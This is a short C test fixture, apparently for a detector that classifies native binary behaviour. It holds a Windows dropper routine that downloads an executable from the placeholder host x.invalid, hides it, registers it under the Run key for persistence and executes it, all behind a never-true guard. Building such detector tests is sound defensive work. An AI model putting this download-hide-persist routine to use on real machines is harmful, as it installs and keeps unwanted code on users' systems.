/* A program is fetched, hidden, started and kept.
 * expect: native-dropped-hidden-kept
 * flags: -O2 -lurlmon
 * flags: -O0 -s -lurlmon
 * for: windows
 */
#include <windows.h>
#include <urlmon.h>
#include <stdio.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static int act(void) {
    char path[300];
    HKEY key;
    GetTempPathA(260, path);
    strcat(path, "x-nonexistent.exe");
    URLDownloadToFileA(0, "http://x.invalid/x", path, 0, 0);
    SetFileAttributesA(path, FILE_ATTRIBUTE_HIDDEN);
    RegOpenKeyExA(HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, KEY_SET_VALUE, &key);
    RegSetValueExA(key, "x", 0, REG_SZ, (BYTE *)path, strlen(path));
    return WinExec(path, 0);
}

int main(void) { return never ? act() : 0; }
